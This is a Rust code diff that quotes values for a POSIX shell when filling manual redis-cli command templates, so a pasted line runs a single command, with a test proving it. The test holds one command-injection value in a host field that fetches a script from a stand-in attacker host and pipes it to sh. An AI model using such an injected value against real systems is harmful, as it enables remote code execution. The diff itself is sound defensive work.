@@ -50,18 +50,24 @@ impl CommandTemplate {
     }
 
     /// Fills the command. `Err` names the first placeholder without a value:
-    /// a command with a gap is not a command.
+    /// a command with a gap is not a command. A manual command's values are
+    /// quoted for a POSIX shell, so a pasted line runs exactly one command
+    /// with exactly those arguments, whatever the server put in them.
     pub fn fill(&self, lookup: impl Fn(&str) -> Option<String>) -> Result<Command, String> {
         let missing = |t: &Template| t.fields().find(|f| lookup(f).is_none()).map(str::to_string);
-        let fill_one = |t: &Template| match missing(t) {
-            Some(f) => Err(f),
-            None => Ok(t.render(&lookup)),
-        };
         Ok(match self {
-            CommandTemplate::Redis { args, .. } => {
-                Command::Redis(args.iter().map(fill_one).collect::<Result<_, _>>()?)
-            }
-            CommandTemplate::Manual(t) => Command::Manual(fill_one(t)?),
+            CommandTemplate::Redis { args, .. } => Command::Redis(
+                args.iter()
+                    .map(|t| match missing(t) {
+                        Some(f) => Err(f),
+                        None => Ok(t.render(&lookup)),
+                    })
+                    .collect::<Result<_, _>>()?,
+            ),
+            CommandTemplate::Manual(t) => match missing(t) {
+                Some(f) => return Err(f),
+                None => Command::Manual(t.render(|f| lookup(f).map(|v| shell_quote(&v)))),
+            },
         })
     }
 }
@@ -75,6 +81,21 @@ impl Command {
             Command::Redis(args) => args.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" "),
             Command::Manual(line) => line.clone(),
         }
+    }
+}
+
+/// A value as one word for a POSIX shell: bare when it holds only
+/// characters no shell treats specially, otherwise in single quotes (a `'`
+/// inside becomes `'\''`).
+pub fn shell_quote(value: &str) -> String {
+    let plain = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
+    if plain {
+        value.to_string()
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
     }
 }
 
@@ -144,6 +165,28 @@ mod tests {
                 "save".into(),
                 "900 1".into()
             ])
+        );
+    }
+
+    #[test]
+    fn manual_values_are_one_shell_word() {
+        let c =
+            CommandTemplate::Manual(Template::parse("redis-cli -h {host} -p {port} PING").unwrap());
+        let lookup = |f: &str| {
+            Some(match f {
+                "host" => "10.0.0.1;curl${IFS}evil.example|sh;#".to_string(),
+                _ => "6379".to_string(),
+            })
+        };
+        assert_eq!(
+            c.fill(lookup).unwrap().display(),
+            "redis-cli -h '10.0.0.1;curl${IFS}evil.example|sh;#' -p 6379 PING"
+        );
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
+        assert_eq!(shell_quote(""), "''");
+        assert_eq!(
+            shell_quote("cache-01.example:6379"),
+            "cache-01.example:6379"
         );
     }
 
